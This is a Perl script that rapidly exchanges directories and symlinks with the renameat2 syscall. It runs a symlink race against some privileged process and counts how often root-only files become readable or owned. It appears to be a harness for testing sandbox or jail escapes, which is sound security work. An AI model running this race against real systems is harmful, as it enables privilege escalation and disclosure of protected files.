# Swaps what is in directories for links and back, as fast as it can, until a file appears that says enough.
#
#   perl swapping.pl ENOUGH DIRECTORY…
#
# In each directory: `sub` for `jail`, a link out; `conf` for `bait`, a link to a file of root's; `sub` for `secret`, which is
# root's alone. Says at the end how often it swapped, and how often it could read or own what is root's.
use strict;
use warnings;
use POSIX qw(uname);
use Time::HiRes qw(usleep);

my ($enough, @directories) = @ARGV;
my $renameat2 = (uname())[4] eq 'aarch64' ? 276 : 316;
my ($swaps, $gains) = (0, 0);

sub swap {
  my ($one, $other) = @_;
  $swaps++ if syscall($renameat2, -100, $one, -100, $other, 2) == 0;
}

sub look {
  my ($path) = @_;
  my @status = lstat $path or return;
  return unless -f _;
  open my $file, '<', $path or return;
  my $line = <$file> // '';
  $gains++ if $line =~ /^SECRET/;
}

until (-e $enough) {
  for my $directory (@directories) {
    for (['sub', 'jail'], ['conf', 'bait'], ['sub', 'secret'], ['link', 'sub']) {
      my ($one, $other) = map { "$directory/$_" } @$_;
      swap($one, $other);
      usleep(int rand 400);
      swap($one, $other);
      look($_) for $one, $other;
    }
    # Steps that come late are reached only when the first are left alone now and then.
    usleep(rand() < 0.2 ? int rand 80_000 : int rand 200);
  }
}
print "$swaps $gains\n";
